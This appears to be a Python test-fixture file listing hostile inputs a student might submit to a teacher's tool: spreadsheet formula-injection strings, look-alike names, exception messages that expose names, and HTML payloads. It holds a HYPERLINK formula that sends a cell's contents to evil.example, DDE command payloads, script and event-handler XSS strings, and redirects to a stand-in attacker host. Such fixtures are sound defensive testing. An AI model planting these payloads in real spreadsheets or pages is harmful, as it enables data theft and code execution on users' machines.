"""What a student may put into a teacher's tables and pages: names, texts of exceptions, answers.

CELLS are texts that some spreadsheet, with some separator, takes for a formula, and LOGINS names
that one takes for a number. ALIKE are pairs of
names that a reader of a table cannot tell apart, APART are names that are not alike. TELLTALES are
sources of a cell that put a person's name into a reason. PAGES are texts for a page.
"""

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"see")'
STARTS = ["=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|'/c calc'!A1", EVIL, "-2+3+cmd|' /C calc'!A0"]
WIDE = ["＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "﹦1", "﹢1", "﹣1", "﹫x", "−1+1"]
BEFORE = [
    "",
    " ",
    "  ",
    "\t",
    "\xa0",
    "\u3000",
    "\ufeff",
    "\u200b",
    "\x00",
    "'",
    "''",
    '"',
    "' \"",
    "\u202e",
]
BETWEEN = [
    ";",
    "x;",
    "x; ",
    'x;"',
    "x;'",
    "x\t",
    "x\n",
    "x\r",
    "x\r\n",
    "x\v",
    "x\f",
    "x\x1c",
    "x\x85",
]
BETWEEN += [
    "x\u2028",
    "x\u2029",
    'x"\n',
    '"\n',
    'x";"',
    "x;;",
    "x,",
    'x","',
    'x"\r\n"',
    ";\n;",
    "x;\n ",
]
CELLS = [before + start for before in BEFORE + BETWEEN for start in STARTS + WIDE]
CELLS += [
    "=",
    "-",
    "a;-",
    ";",
    "\n",
    '"',
    "''",
    "x;",
    'x;"',
    "=1;=2\n=3;'=4",
    "",
    "\x1b]0;=1\x07",
    "\udcff=1",
]
LOGINS = ["007", "1e5", "1e-5", "0x10", "1-2", "12345678901234567890", "TRUE", "5%", "mar1"]
CELLS += [*LOGINS, "3/4"]

ALIKE = [
    ("=1+1", "'=1+1"),
    ("ann", "Ann"),
    ("ann", "ann "),
    ("ann", " ann"),
    ("ann lee", "ann\xa0lee"),
    ("ann lee", "ann  lee"),
    ("ann lee", "ann\u3000lee"),
    ("ann lee", "ann\tlee"),
    ("ann", "ann\u200b"),
    ("ann", "a\xadnn"),
    ("ann", "\u202eann"),
    ("ann", "ann\x07"),
    ("a\x01", "a\x02"),
    ("ann\ufe0f", "ann"),
    ("m\xfcller", "mu\u0308ller"),
    ("M\xfcller", "m\xfcller"),
    ("M\udcfcller", "M\udcf6ller"),
    ("ａｎｎ", "ann"),
    ("strasse", "straße"),
    ("ann", "аnn"),  # a Cyrillic letter
    ("BOB", "ВОВ"),  # three of them
    ("7", "007"),
    ("1e5", "100000"),
    ("a\nb", "a b"),
    ("\x01", "\x02"),
]
APART = [
    "ann",
    "anne",
    "a.nn",
    "an",
    "Müller",
    "Mueller",
    "Muller",
    "O'Neil",
    "ONeil",
    "1",
    "10",
    "=1",
]
APART += [
    "s1",
    "s01",
    "1e5",
    "1-2",
    "a\nb",
    "ab",
    "李",
    "ли",
    "a\\udcff",
    "123456789012345678",
    "+1x",
]
APART += ["123456789012345679"]

NAMES = ["Ben Miller", "Ann Lee", "BenMiller", "AnnLee"]
TELLTALES = {
    "text": 'raise Exception("Ben Miller copied from Ann Lee")',
    "known kind": 'raise ValueError("Ben Miller copied from Ann Lee")',
    "own class": "class BenMiller_AnnLee(Exception): pass\nraise BenMiller_AnnLee",
    "own class as another": 'raise type("ValueError: (BenMiller)", (Exception,), {})("Ann Lee")',
    "made up state": 'raise type("right", (Exception,), {})("): Ben Miller (KeyError: Ann Lee")',
    "syntax": "Ben Miller copied from Ann Lee",
    "file name": 'exec(compile("1/0", "Ben Miller copied from Ann Lee.py", "exec"))',
    "missing file": 'open("Ben Miller copied from Ann Lee")',
    "missing name": "BenMiller_copied_from_AnnLee",
    "missing module": "import BenMiller_copied_from_AnnLee",
    "chained": 'try: 1/0\nexcept Exception as e: raise KeyError("Ben Miller") from e',
    "note": 'e = ValueError("x")\ne.add_note("Ben Miller copied from Ann Lee")\nraise e',
    "group": 'raise ExceptionGroup("Ben Miller", [ValueError("Ann Lee")])',
    "value": 'return "Ben Miller copied from Ann Lee"',
    "values": 'return {"Ben Miller": "Ann Lee"}',
}

PAGES = [
    "<script>document.title = 'acted'</script>",
    "<img src=x onerror=\"document.title = 'acted'\">",
    "<svg onload=\"document.title = 'acted'\">",
    "</title><script>document.title = 'acted'</script>",
    "</style><script>document.title = 'acted'</script><style>",
    '"><iframe srcdoc="<script>parent.document.title = \'acted\'</script>">',
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<link rel=stylesheet href=http://evil.example/x.css><base href=http://evil.example/>",
    "<style>@import url(http://evil.example/x.css)</style>",
    "<a href=\"javascript:document.title = 'acted'\">see</a>",
    "<form action=http://evil.example><input autofocus onfocus=\"document.title = 'acted'\">",
    "{{ 7 * 7 }}{% raw %}{{ self }}",
    "<!--",
    "]]>",
    "\u202etxt.exe",
    "\x1b[2J\x1b]0;title\x07",
    "&lt;script&gt;",
    "long" * 2_000,
]
